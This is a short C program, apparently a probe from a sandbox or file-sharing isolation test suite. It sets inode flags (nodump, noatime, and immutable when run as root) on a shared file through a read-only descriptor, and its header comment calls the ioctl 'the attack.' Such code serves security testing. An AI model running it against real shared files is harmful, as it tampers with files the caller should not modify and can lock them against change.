/* ioctl: inode flags of a shared file, set through a read-only descriptor.
 *
 * usage: ioctl setflags|fssetxattr TARGET
 *
 * FS_IOC_SETFLAGS and FS_IOC_FSSETXATTR need ownership of the file (or CAP_FOWNER), not write
 * access, so an O_RDONLY descriptor of a shared file, which the view hands out without copying
 * the file, is enough. setflags adds FS_NODUMP_FL and, for root (CAP_LINUX_IMMUTABLE),
 * FS_IMMUTABLE_FL; fssetxattr adds FS_XFLAG_NOATIME. No race: the call is the attack. Prints
 * what each call returned; exit status 0, 2 on a setup failure. */
#include "attack.h"
#include <linux/fs.h>
#include <sys/ioctl.h>

int main(int argc, char **argv) {
	if (argc != 3) {
		fprintf(stderr, "usage: ioctl setflags|fssetxattr TARGET\n");
		return 2;
	}
	int fd = open(argv[2], O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		die(argv[2]);
	if (!strcmp(argv[1], "setflags")) {
		int flags;
		if (ioctl(fd, FS_IOC_GETFLAGS, &flags) < 0)
			die("FS_IOC_GETFLAGS");
		flags |= FS_NODUMP_FL;
		if (geteuid() == 0)
			flags |= FS_IMMUTABLE_FL;
		int ret = ioctl(fd, FS_IOC_SETFLAGS, &flags);
		printf("FS_IOC_SETFLAGS %#x: %s\n", flags, ret == 0 ? "ok" : strerror(errno));
	} else if (!strcmp(argv[1], "fssetxattr")) {
		struct fsxattr fsx;
		if (ioctl(fd, FS_IOC_FSGETXATTR, &fsx) < 0)
			die("FS_IOC_FSGETXATTR");
		fsx.fsx_xflags |= FS_XFLAG_NOATIME;
		int ret = ioctl(fd, FS_IOC_FSSETXATTR, &fsx);
		printf("FS_IOC_FSSETXATTR xflags %#x: %s\n", fsx.fsx_xflags, ret == 0 ? "ok" : strerror(errno));
	} else {
		fprintf(stderr, "ioctl: unknown op %s\n", argv[1]);
		return 2;
	}
	return 0;
}
